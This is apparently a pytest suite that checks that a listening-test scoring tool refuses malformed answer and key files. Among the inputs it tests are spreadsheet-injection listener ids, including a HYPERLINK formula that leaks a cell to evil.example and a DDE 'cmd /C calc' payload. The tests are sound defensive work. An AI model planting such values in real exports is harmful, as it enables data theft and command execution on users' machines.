"""Fault injection on a listening test's answer files, through ``b2m score-listening``: every answer reader (JSON
and CSV exports) × every kind of bad file, listener ids a spreadsheet would run as a formula or that split a TSV
row, a key edited into such names, and answer files the workflow cannot plan. Each must stop with exit status 2
and one message naming the file, the problem and the fix, and leave nothing in the output folder (no table, no
temporary)."""

from __future__ import annotations

import gzip
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
import yaml

from b2m.cli import main
from b2m.errors import InputError
from b2m.study import Study
from conftest import REPO
from test_listening_test import answer_file, true_side, written_test
from test_workflow import dry_run

READERS = ("json", "csv")


def other_format(path: Path) -> None:
    """The same listener's export in the other format (written beside it) under this name."""
    path.write_bytes(path.with_suffix(".csv" if path.suffix == ".json" else ".json").read_bytes())


def replace_with(path: Path, make) -> None:
    path.unlink()
    make(path)


# bad-file kind → (spoil the export at ``path``, the problem named)
BAD_FILES = {
    "empty": (lambda path: path.write_bytes(b""), "the answer file is empty"),
    "cut short": (lambda path: path.write_bytes(path.read_bytes()[:-10]), "cut short"),
    "corrupt": (lambda path: path.write_text(path.read_text().replace("t002", 't0"}{,02', 1)),
                r"unreadable (JSON|CSV)"),
    "binary": (lambda path: path.write_bytes(gzip.compress(path.read_bytes(), mtime=0)), "it is binary"),
    "binary with NUL bytes": (lambda path: path.write_bytes(path.read_bytes().replace(b"t00", b"t\0\0")),
                              "it is binary"),
    "the other format": (other_format, r"holds a (CSV|JSON) export under a \.(json|csv) name"),
    "FIFO": (lambda path: replace_with(path, os.mkfifo), "not a regular file"),
    "device": (lambda path: replace_with(path, lambda p: p.symlink_to("/dev/null")), "not a regular file"),
    "folder": (lambda path: replace_with(path, Path.mkdir), "not a regular file"),
    "dangling link": (lambda path: replace_with(path, lambda p: p.symlink_to(p.parent / "gone")),
                      r"answer file missing \(a link to nothing\)"),
}

# listener id → why a spreadsheet or a TSV reader would misread it
BAD_LISTENERS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': "a formula",
    "+cmd|' /C calc'!A0": "a DDE formula",
    "=1+2": "a formula",
    "-1+2": "a formula",
    "@SUM(A1)": "a formula",
    "_L01": "not a letter or digit first",
    "L\t01": "a tab splits the TSV cell",
    "L01\nL02": "a newline splits the TSV row",
    "L01\r": "a carriage return",
    "L" * 41: "longer than 40",
}


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """A written listening test: its key and the key's file."""
    folder = tmp_path_factory.mktemp("page")
    _, key = written_test(folder)
    return key, folder / "key.tsv"


@pytest.fixture
def test_page(page, tmp_path):
    """The listening test's key, a copy of its file in ``tmp_path`` and an empty output folder there."""
    key, key_path = page
    shutil.copy(key_path, tmp_path / "key.tsv")
    return key, tmp_path / "key.tsv", tmp_path / "out"


def written(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) if folder.exists() else []


def assert_refused(argv_files, key_path: Path, out: Path, named: str, problem: str, caplog) -> None:
    """``b2m score-listening`` stops with status 2 and one error naming ``named`` and ``problem`` and the fix,
    and writes nothing."""
    argv = ["score-listening", *map(str, argv_files), "--key", str(key_path), "--out", str(out / "scores.tsv"),
            "--html", str(out / "scores.html")]
    caplog.clear()
    assert main(argv) == 2
    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(errors) == 1, errors
    assert re.search(rf"{re.escape(named)}: .*({problem})", errors[0]), errors[0]
    assert "\n  fix: " in errors[0], errors[0]
    assert written(out) == []


@pytest.mark.parametrize("kind", READERS)
@pytest.mark.parametrize("bad", BAD_FILES)
def test_a_bad_answer_file_is_refused_naming_it(bad, kind, test_page, caplog):
    key, key_path, out = test_page
    good = answer_file(key_path.parent, key, "L01", true_side)
    path = [answer_file(key_path.parent, key, "L02", true_side, kind=k) for k in READERS][READERS.index(kind)]
    spoil, problem = BAD_FILES[bad]
    spoil(path)
    assert_refused([good, path], key_path, out, str(path), problem, caplog)


@pytest.mark.parametrize("kind", READERS)
@pytest.mark.parametrize("listener", BAD_LISTENERS, ids=[f"{why}: {i!r}" for i, why in BAD_LISTENERS.items()])
def test_a_listener_id_outside_the_pattern_is_refused_naming_the_file(listener, kind, test_page, caplog):
    key, key_path, out = test_page
    path = answer_file(key_path.parent, key, "L01", true_side, kind=kind, changes={"listener": listener})
    split = kind == "csv" and "\r" in listener  # a bare CR ends a CSV row: the id splits the row in two
    problem = r"answer row 1 has 1 fields, not 6" if split else r"listener id .* is not 1 to 40 letters, digits"
    assert_refused([path], key_path, out, str(path), problem, caplog)


def test_a_csv_row_short_of_a_field_is_refused_naming_it(test_page, caplog):
    """Not read as an empty answered_at: the file was edited or cut."""
    key, key_path, out = test_page
    path = answer_file(key_path.parent, key, "L01", true_side, kind="csv")
    lines = path.read_text().split("\n")
    lines[3] = lines[3].rsplit(",", 1)[0]
    path.write_text("\n".join(lines))
    assert_refused([path], key_path, out, str(path), r"answer row 3 has 5 fields, not 6", caplog)


def test_json_nested_deep_is_refused_naming_it(test_page, caplog):
    key, key_path, out = test_page
    path = answer_file(key_path.parent, key, "L01", true_side)
    depth = 100_000
    path.write_text(path.read_text().replace('"answers": [', '"answers": [' + "[" * depth + "]" * depth + ", ", 1))
    assert_refused([path], key_path, out, str(path), "nested too deep", caplog)


@pytest.mark.parametrize("column, name", [("subject", "=1+2"), ("feature", "+1"), ("method", "-x"), ("model", "@x"),
                                          ("fold", "\tx"), ("subject", "a\tb"), ("model", "a\nb")])
def test_a_key_edited_into_a_formula_or_a_tab_is_refused_naming_it(column, name, test_page, caplog):
    """The key's names are cells of the score table: an edited key is refused, not copied into it."""
    key, key_path, out = test_page
    path = answer_file(key_path.parent, key, "L01", true_side)
    table = pd.read_csv(key_path, sep="\t", dtype=str, keep_default_na=False)
    table[column] = name
    table.to_csv(key_path, sep="\t", index=False)
    assert_refused([path], key_path, out, str(key_path), rf"{column} .* starts with =, \+, -, @ or holds a tab",
                   caplog)


def study_with_answers(tmp_path: Path) -> tuple[Study, Path]:
    config = yaml.safe_load((REPO / "config/config.yaml").read_text())
    answers = tmp_path / "listening-answers"
    config["reconstruction"]["listening_test"]["answers"] = str(answers)
    answers.mkdir()
    (answers / "listening-test_L01_b2m-1.json").write_text("{}")
    return Study(config), answers


@pytest.mark.parametrize("name, make, problem", [
    ("listening-test_{L02}_b2m-1.json", Path.write_text, r"path holds \{ or \}, which Snakemake reads as a wildcard"),
    ("L03}.csv", Path.write_text, r"path holds \{ or \}"),
    ("listening-test_L04_b2m-1.json", lambda p, _: os.mkfifo(p), "not a regular file"),
    ("listening-test_L05_b2m-1.csv", lambda p, _: p.mkdir(), "not a regular file"),
])
def test_an_answer_file_the_workflow_cannot_plan_is_refused_naming_it(name, make, problem, tmp_path):
    """At planning, before any job: a name Snakemake would read as a wildcard, or a FIFO or folder it would
    block on or trip over."""
    study, answers = study_with_answers(tmp_path)
    make(answers / name, "{}")
    with pytest.raises(InputError, match=problem) as error:
        study.answer_files()
    assert error.value.path == str(answers / name) and error.value.fix


def test_the_dry_run_names_an_answer_file_snakemake_would_read_as_a_wildcard(tmp_path):
    """Not Snakemake's WildcardError: the file and the fix."""
    for folder in ("config", "profiles", "workflow"):
        shutil.copytree(REPO / folder, tmp_path / folder)
    answers = tmp_path / yaml.safe_load((REPO / "config/config.yaml").read_text())["reconstruction"][
        "listening_test"]["answers"]
    answers.mkdir()
    (answers / "listening-test_{L01}_b2m-1.json").write_text("{}")
    result = dry_run(tmp_path)
    assert result.returncode != 0 and "WildcardError" not in result.stderr + result.stdout
    assert "listening-test_{L01}_b2m-1.json: an answer file whose path holds { or }" in result.stdout + result.stderr
    assert "fix: rename it without { and }" in result.stdout + result.stderr
